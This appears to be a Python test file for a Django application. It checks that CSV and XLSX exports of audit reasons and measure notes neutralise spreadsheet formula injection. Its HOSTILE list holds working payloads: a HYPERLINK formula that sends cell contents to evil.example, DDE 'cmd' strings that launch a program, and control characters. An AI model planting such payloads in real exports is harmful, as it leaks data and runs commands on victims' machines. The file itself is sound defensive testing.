"""Every export, measures' and audits', through its real view: text a user typed (a note,
a reason) can never run as a formula in the spreadsheet that opens it, nor break XLSX."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from qicommons.audits.models import Answer
from qicommons.measures.tests.helpers import add_points, make_measure

from .factories import add_case, make_audit, make_cycle

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "bell\x07and\x1bescape",
]


def measure_export(client, world):
    measure = make_measure(world)
    points = add_points(measure, [1] * len(HOSTILE), [5] * len(HOSTILE))
    for point, text in zip(points, HOSTILE, strict=True):
        point.note = text
        point.save()
    return lambda fmt: reverse(
        "measures:export", kwargs={"slug": "alpha", "pk": measure.pk, "fmt": fmt}
    )


def audit_export(client, world):
    cycle = make_cycle(make_audit(world.alpha))
    for number, text in enumerate(HOSTILE):
        case = add_case(cycle, f"IP-{number:08d}", ["exception", "met", "met"])
        Answer.objects.filter(case=case, result="exception").update(reason=text)
    url = reverse("audits:cycle_export", args=["alpha", cycle.audit_id, cycle.pk])
    return lambda fmt: url if fmt == "csv" else url + "?format=xlsx"


def cells(fmt, body):
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]
    book = load_workbook(io.BytesIO(body))
    return [c for row in book.active.iter_rows(values_only=True) for c in row if c is not None]


@pytest.mark.parametrize("export", [measure_export, audit_export])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_typed_text_runs_as_a_formula(client, world, export, fmt):
    url = export(client, world)(fmt)
    client.force_login(world.users["viewer"])
    response = client.get(url)
    assert response.status_code == 200
    texts = [c for c in cells(fmt, response.content) if isinstance(c, str)]
    typed = [t for t in texts if t and (t.lstrip("'")[0] in "=+-@\t" or "bell" in t)]
    assert len(typed) == len(HOSTILE)
    for text in typed:
        assert text.startswith("'") or text.startswith("bell"), text
        assert not any(ord(ch) < 32 and ch not in "\t\n" for ch in text), text
    assert "bellandescape" in texts
